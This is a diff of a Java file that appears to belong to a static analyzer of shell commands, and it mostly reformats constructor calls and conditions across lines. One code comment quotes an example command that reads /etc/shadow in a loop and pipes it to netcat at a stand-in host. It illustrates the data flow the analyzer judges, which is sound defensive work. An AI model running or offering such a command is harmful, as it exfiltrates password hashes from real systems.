@@ -34,8 +34,15 @@ final class Compounds {
         Stdin stdin = w.redirections.stdinFor(redirs, k.redirects(), env, ctx);
         Producers.Output out = walkParts(k, env, ctx, stdin);
         if (!redirs.isEmpty()) {
-            Invocation pseudo = new Invocation(List.of(), redirs, stdin, w.s(ctx, k.start()), w.e(ctx, k.end()),
-                    ctx.speculative(), null, ctx.depth());
+            Invocation pseudo = new Invocation(
+                    List.of(),
+                    redirs,
+                    stdin,
+                    w.s(ctx, k.start()),
+                    w.e(ctx, k.end()),
+                    ctx.speculative(),
+                    null,
+                    ctx.depth());
             w.rules.evaluate(pseudo, w.reporter);
         }
         // a loop fed by "< FILE" passes what it read on ("while read l; do echo $l; done < /etc/shadow | nc h 9"), and
@@ -72,10 +79,10 @@ final class Compounds {
                     w.expander.expand(word, env);
                 }
             }
-            // the coprocess's output stays readable by the rest of the line (read <&"${COPROC[0]}"): judge it as flowing on
+            // the coprocess's output stays readable by the rest of the line (read <&"${COPROC[0]}"): judge it as
+            // flowing on
             case COPROC -> out = w.walkScript(k.parts().get(0), w.copyEnv(env), inner.stage(stdin, true, true));
-            default -> {
-            }
+            default -> {}
         }
         return out;
     }
@@ -132,7 +139,9 @@ final class Compounds {
             return false;
         }
         String name = s.words().get(0).literal();
-        return "true".equals(name) || ":".equals(name) || ("[".equals(name) && s.words().size() == 3);
+        return "true".equals(name)
+                || ":".equals(name)
+                || ("[".equals(name) && s.words().size() == 3);
     }
 
     /** An until-condition that never succeeds ({@code until false}). */
@@ -141,7 +150,9 @@ final class Compounds {
             return false;
         }
         List<Command> cmds = cond.items().get(0).pipelines().get(0).commands();
-        return cmds.size() == 1 && cmds.get(0) instanceof Simple s && s.words().size() == 1
+        return cmds.size() == 1
+                && cmds.get(0) instanceof Simple s
+                && s.words().size() == 1
                 && "false".equals(s.words().get(0).literal());
     }
 
@@ -190,8 +201,17 @@ final class Compounds {
             }
         }
         Script body = k.parts().get(0);
-        Ctx inner = new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), ctx.stdin(), ctx.functions(), ctx.inPipeline(),
-                ctx.background(), ctx.callDepth(), ctx.loopDepth() + 1, ctx.speculative());
+        Ctx inner = new Ctx(
+                ctx.depth(),
+                ctx.spanStart(),
+                ctx.spanEnd(),
+                ctx.stdin(),
+                ctx.functions(),
+                ctx.inPipeline(),
+                ctx.background(),
+                ctx.callDepth(),
+                ctx.loopDepth() + 1,
+                ctx.speculative());
         if (known && ctx.loopDepth() == 0 && !values.isEmpty() && values.size() <= 8) {
             for (String v : values) {
                 env.set(name, Value.of(v, origin));
